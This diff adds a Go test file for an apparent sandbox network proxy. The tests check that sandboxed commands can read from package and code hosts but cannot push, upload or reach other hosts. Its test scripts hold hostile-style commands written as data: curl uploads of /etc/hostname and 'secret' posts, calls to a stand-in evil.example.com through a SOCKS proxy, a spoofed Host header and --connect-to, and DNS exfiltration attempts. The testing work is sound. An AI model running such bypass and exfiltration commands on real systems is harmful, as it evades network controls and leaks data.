@@ -1,0 +1,233 @@
+package sandbox_test
+
+import (
+	"context"
+	"crypto/ecdsa"
+	"crypto/elliptic"
+	"crypto/rand"
+	"crypto/tls"
+	"crypto/x509"
+	"crypto/x509/pkix"
+	"encoding/pem"
+	"fmt"
+	"math/big"
+	"net"
+	"net/http"
+	"net/http/cgi"
+	"net/http/httptest"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strings"
+	"sync"
+	"testing"
+	"time"
+
+	"github.com/nanobot-go/nanobot/internal/httpsafe"
+	"github.com/nanobot-go/nanobot/internal/sandbox"
+)
+
+// internet is a stand-in for all public hosts: one TLS server whose certificate
+// covers every name, and a plain one.
+type internet struct {
+	bundle        []byte
+	secure, plain *httptest.Server
+
+	mu     sync.Mutex
+	dialed []string
+	seen   []string
+}
+
+func newInternet(t *testing.T, names []string, h http.Handler) *internet {
+	t.Helper()
+	n := &internet{}
+	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
+	if err != nil {
+		t.Fatal(err)
+	}
+	c := &x509.Certificate{
+		SerialNumber: big.NewInt(1), Subject: pkix.Name{CommonName: "test"}, DNSNames: names, IsCA: true, BasicConstraintsValid: true,
+		NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(time.Hour), KeyUsage: x509.KeyUsageCertSign | x509.KeyUsageDigitalSignature,
+	}
+	der, err := x509.CreateCertificate(rand.Reader, c, c, &key.PublicKey, key)
+	if err != nil {
+		t.Fatal(err)
+	}
+	n.bundle = pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: der})
+	counted := http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		n.mu.Lock()
+		n.seen = append(n.seen, r.Method+" "+r.Host+" "+r.URL.RequestURI())
+		n.mu.Unlock()
+		h.ServeHTTP(w, r)
+	})
+	n.secure = httptest.NewUnstartedServer(counted)
+	n.secure.TLS = &tls.Config{Certificates: []tls.Certificate{{Certificate: [][]byte{der}, PrivateKey: key}}, MinVersion: tls.VersionTLS12}
+	n.secure.StartTLS()
+	t.Cleanup(n.secure.Close)
+	n.plain = httptest.NewServer(counted)
+	t.Cleanup(n.plain.Close)
+	return n
+}
+
+// dial leads every host to the stand-in, by port.
+func (n *internet) dial(ctx context.Context, network, address string) (net.Conn, error) {
+	n.mu.Lock()
+	n.dialed = append(n.dialed, address)
+	n.mu.Unlock()
+	to := n.plain
+	if strings.HasSuffix(address, ":443") {
+		to = n.secure
+	}
+	return (&net.Dialer{}).DialContext(ctx, network, to.Listener.Addr().String())
+}
+
+func (n *internet) requests() string {
+	n.mu.Lock()
+	defer n.mu.Unlock()
+	return strings.Join(n.seen, "\n")
+}
+
+// offer runs the product's proxy for one client and says what a profile needs.
+func offer(t *testing.T, o httpsafe.ProxyOptions, a *httpsafe.Access) (socket, certs string) {
+	t.Helper()
+	proxy, err := httpsafe.NewProxy(o)
+	if err != nil {
+		t.Fatal(err)
+	}
+	dir := t.TempDir()
+	socket, certs = filepath.Join(dir, "s"), filepath.Join(dir, "certs.pem")
+	if err := os.WriteFile(certs, proxy.Certificate(), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	l, err := (&net.ListenConfig{}).Listen(t.Context(), "unix", socket)
+	if err != nil {
+		t.Fatal(err)
+	}
+	ctx, cancel := context.WithCancel(t.Context())
+	done := make(chan error, 1)
+	go func() { done <- proxy.Serve(ctx, l, a) }()
+	t.Cleanup(func() {
+		cancel()
+		if err := <-done; err != nil {
+			t.Error(err)
+		}
+		proxy.Close()
+	})
+	return socket, certs
+}
+
+// packagesOnly is the policy of a command that nobody is asked about.
+func packagesOnly(_ context.Context, r httpsafe.HostRequest) (httpsafe.Reach, error) {
+	if httpsafe.PackageHost(r.Host, r.Port) {
+		return httpsafe.ReachRead, nil
+	}
+	return httpsafe.ReachNone, &httpsafe.BlockedError{Target: r.Host, Reason: "not allowed in this test"}
+}
+
+// Real programs read from package and code hosts through certificates of our
+// own, and change nothing there.
+func TestReadOnlyHosts(t *testing.T) {
+	t.Parallel()
+	skipWithout(t, "curl")
+	skipWithout(t, "git")
+	everyBox(t, func(t *testing.T, b *box) {
+		if !b.Level().NetNS {
+			t.Skip("no network namespaces, so no proxy")
+		}
+		repos := t.TempDir()
+		git := func(args ...string) string {
+			out, err := exec.CommandContext(t.Context(), "git", args...).CombinedOutput()
+			if err != nil {
+				t.Fatalf("git %v: %v: %s", args, err, out)
+			}
+			return strings.TrimSpace(string(out))
+		}
+		seed := filepath.Join(t.TempDir(), "seed")
+		git("init", "-q", "-b", "main", seed)
+		if err := os.WriteFile(filepath.Join(seed, "README"), []byte("cloned words"), 0o600); err != nil {
+			t.Fatal(err)
+		}
+		git("-C", seed, "add", ".")
+		git("-C", seed, "-c", "user.name=t", "-c", "user.email=t@example.com", "commit", "-qm", "first")
+		git("clone", "-q", "--bare", seed, filepath.Join(repos, "r.git"))
+		git("-C", filepath.Join(repos, "r.git"), "config", "http.receivepack", "true")
+		backend := &cgi.Handler{
+			Path: filepath.Join(git("--exec-path"), "git-http-backend"),
+			Env:  []string{"GIT_PROJECT_ROOT=" + repos, "GIT_HTTP_EXPORT_ALL=1", "GIT_CONFIG_COUNT=1", "GIT_CONFIG_KEY_0=safe.directory", "GIT_CONFIG_VALUE_0=*"},
+		}
+		net := newInternet(t, []string{"github.com", "pypi.org", "evil.example.com"}, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+			if strings.HasPrefix(r.URL.Path, "/r.git/") {
+				backend.ServeHTTP(w, r)
+				return
+			}
+			fmt.Fprintf(w, "page of %s", r.Host)
+		}))
+		a := &httpsafe.Access{Decide: packagesOnly}
+		p := b.profile()
+		p.Network = sandbox.NetProxy
+		p.ProxySocket, p.ProxyCerts = offer(t, httpsafe.ProxyOptions{Dial: net.dial, Bundle: net.bundle}, a)
+
+		for script, want := range map[string]string{
+			`curl -sS -m 10 https://pypi.org/simple/`:                                                                     "page of pypi.org",
+			`env -u CURL_CA_BUNDLE -u SSL_CERT_FILE curl -sS -m 10 https://pypi.org/system`:                               "page of pypi.org",
+			`curl -sS -m 10 http://pypi.org/plain`:                                                                        "page of pypi.org",
+			`curl -sS -m 10 -x socks5h://127.0.0.1:3128 https://pypi.org/socks`:                                           "page of pypi.org",
+			`rm -rf c; git clone -q https://github.com/r.git c && cat c/README`:                                           "cloned words",
+			`/usr/bin/python3 -c 'import urllib.request as u; print(u.urlopen("https://pypi.org/x", timeout=10).read())'`: "page of pypi.org",
+		} {
+			if out := b.must(t, p, script); !strings.Contains(out, want) {
+				t.Errorf("%s: %s", script, out)
+			}
+		}
+		before := git("-C", filepath.Join(repos, "r.git"), "rev-parse", "main")
+		for _, script := range []string{
+			`rm -rf d; git clone -q https://github.com/r.git d && cd d && echo more > f && git add f && git -c user.name=t -c user.email=t@e commit -qm two && git push -q origin main; git push -q -f https://github.com/r.git HEAD:refs/heads/evil`,
+			`curl -sS -m 10 -d secret=1 https://pypi.org/legacy/; curl -sS -m 10 -X PUT -T /etc/hostname https://pypi.org/put; curl -sS -m 10 -X DELETE https://pypi.org/del`,
+			`curl -sS -m 10 -X GET -d body https://pypi.org/getbody; curl -sS -m 10 --post301 -d x http://pypi.org/post`,
+			`curl -sS -m 10 https://evil.example.com/x; curl -sS -m 10 http://evil.example.com/x; curl -sS -m 10 -x socks5h://127.0.0.1:3128 http://evil.example.com/x`,
+			`curl -sS -m 10 -H 'Host: evil.example.com' https://pypi.org/front; curl -sS -m 10 --connect-to evil.example.com:443:pypi.org:443 https://evil.example.com/sni`,
+		} {
+			b.run(t, p, script)
+		}
+		if now := git("-C", filepath.Join(repos, "r.git"), "for-each-ref", "--format=%(objectname) %(refname)"); now != before+" refs/heads/main" {
+			t.Errorf("the repository changed: %s, was %s", now, before)
+		}
+		for line := range strings.SplitSeq(net.requests(), "\n") {
+			if !strings.HasPrefix(line, "GET ") && !strings.HasSuffix(line, "/git-upload-pack") || strings.Contains(line, "evil") || strings.Contains(line, "/sni") {
+				t.Errorf("this came through: %s", line)
+			}
+		}
+		if used := a.Used(); strings.Join(used.Hosts, " ") != "github.com pypi.org" || used.Received == 0 || len(used.Refused) == 0 {
+			t.Errorf("traffic %+v", used)
+		}
+	})
+}
+
+// Nothing inside resolves a name: the only way to one is the proxy.
+func TestNoNamesInside(t *testing.T) {
+	t.Parallel()
+	everyBox(t, func(t *testing.T, b *box) {
+		if !b.Level().NetNS {
+			t.Skip("no network namespaces, so no proxy")
+		}
+		skipWithout(t, "python3")
+		p := b.profile()
+		p.Network = sandbox.NetProxy
+		p.ProxySocket, p.ProxyCerts = offer(t, httpsafe.ProxyOptions{}, &httpsafe.Access{Decide: packagesOnly})
+		out, _ := b.run(t, p, `getent hosts pypi.org && echo "resolved"
+/usr/bin/python3 - <<'P'
+import socket
+for name in ("pypi.org", "secret.evil.example.com"):
+    try: print("resolved", socket.getaddrinfo(name, 443))
+    except OSError as e: print("no", e)
+for host in ("8.8.8.8", "127.0.0.53", "1.1.1.1"):
+    for kind in (socket.SOCK_DGRAM, socket.SOCK_STREAM):
+        try:
+            s = socket.socket(socket.AF_INET, kind); s.settimeout(1); s.connect((host, 53)); s.send(b"x" * 20); print("got", s.recv(10))
+        except OSError as e: print("no", e)
+P`)
+		if strings.Contains(out, "resolved") || strings.Contains(out, "got") || strings.Count(out, "no [Errno") != 8 {
+			t.Errorf("got %s", out)
+		}
+	})
+}
